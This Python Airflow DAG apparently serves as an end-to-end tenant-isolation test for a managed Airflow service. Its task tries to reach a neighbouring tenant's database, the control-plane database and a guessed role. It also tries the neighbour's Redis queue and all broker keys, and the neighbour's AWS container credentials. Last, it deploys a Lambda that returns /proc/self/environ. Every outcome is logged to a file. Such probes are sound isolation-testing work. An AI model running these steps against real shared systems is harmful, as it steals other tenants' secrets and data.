"""A DAG that attacks its neighbours, with paths as MWAA has them, written into the file as people do.

`conf` of a run: `targets` (support/attacks.py), the neighbour's `id`, our own `role`. What came of each attack is
written to AIRFLOW_HOME.
"""

from __future__ import annotations

import json
import os
import sys
import urllib.request
from datetime import timedelta
from pathlib import Path

try:
    from airflow.sdk import dag, get_current_context, task
except ImportError:
    from airflow.decorators import dag, task
    from airflow.operators.python import get_current_context

HERE = "/usr/local/airflow/dags"
SUCCEEDED = "succeeded"


def database(name: str) -> str:
    """With the environment's own role and password."""
    from sqlalchemy import create_engine
    from sqlalchemy.engine import make_url

    own = make_url(os.environ["AIRFLOW__CELERY__RESULT_BACKEND"].removeprefix("db+"))
    with create_engine(own.set(database=name)).connect():
        return SUCCEEDED


def guessed_role(name: str) -> str:
    from sqlalchemy import create_engine
    from sqlalchemy.engine import make_url

    own = make_url(os.environ["AIRFLOW__CELERY__RESULT_BACKEND"].removeprefix("db+"))
    with create_engine(own.set(username=name, password=name, database=name)).connect():
        return SUCCEEDED


def broker(key: str) -> str:
    import redis

    with redis.from_url(os.environ["AIRFLOW__CELERY__BROKER_URL"]) as client:
        client.exists(key)
    return SUCCEEDED


def all_keys(pattern: str) -> str:
    import redis

    with redis.from_url(os.environ["AIRFLOW__CELERY__BROKER_URL"]) as client:
        client.keys(pattern)
    return SUCCEEDED


def credentials(neighbour: str) -> str:
    """The neighbour's execution role, with our own token."""
    url = os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"].rpartition("/")[0] + f"/{neighbour}"
    token = os.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"]
    with urllib.request.urlopen(urllib.request.Request(url, headers={"Authorization": token}), timeout=10):  # noqa: S310
        return SUCCEEDED


def function(name: str, role: str) -> str:
    """Code that the embedded cloud would run as its own user. The role may do that."""
    import io
    import zipfile

    import boto3

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("code.py", "def handler(event, context):\n    return open('/proc/self/environ').read()\n")
    client = boto3.client("lambda")
    client.create_function(
        FunctionName=name,
        Runtime="python3.12",
        Role=role,
        Handler="code.handler",
        Code={"ZipFile": archive.getvalue()},
    )
    client.invoke(FunctionName=name)
    return SUCCEEDED


@dag(dag_id="attacks", schedule=None, is_paused_upon_creation=False, default_args={"retries": 0}, tags=["e2e"])
def attacks():
    @task(execution_timeout=timedelta(seconds=90))
    def attack() -> None:
        context = get_current_context()
        conf = context["dag_run"].conf
        here = HERE if os.path.exists(HERE) else os.path.dirname(__file__)
        sys.path.insert(0, here)
        from attacks import attempt

        own = Path(here, "attacks_dag.py").read_text()
        os.environ["MARK"] = os.environ["AIRFLOW_ENV_ID"]
        path = ("works" if "MWAA" in own else "another file") if here == HERE else "isn't there"
        found = {"the path that MWAA has": path, **attempt(conf["targets"])}
        found["AIRFLOW_HOME"] = os.environ["AIRFLOW_HOME"]
        neighbour = conf["id"]
        services = {
            "its neighbour's database": lambda: database(f"env_{neighbour}"),
            "the control plane's database": lambda: database("aerodrome"),
            "its neighbour's role": lambda: guessed_role(f"env_{neighbour}"),
            "its neighbour's queue": lambda: broker(f"{neighbour}:default"),
            "all keys of the broker": lambda: all_keys("*"),
            "its neighbour's credentials": lambda: credentials(neighbour),
            "code in the embedded cloud": lambda: function("attack", conf["role"]),
        }
        for name, call in services.items():
            try:
                found[name] = call()
            except Exception as error:  # noqa: BLE001 - however it is refused
                found[name] = f"{type(error).__name__}: {error}"[:300]
        for name, outcome in found.items():
            print(f"{name}: {outcome}")
        result = Path(os.environ["AIRFLOW_HOME"], f"{context['run_id']}.json")
        result.with_suffix(".new").write_text(json.dumps(found))
        result.with_suffix(".new").rename(result)

    attack()


attacks()
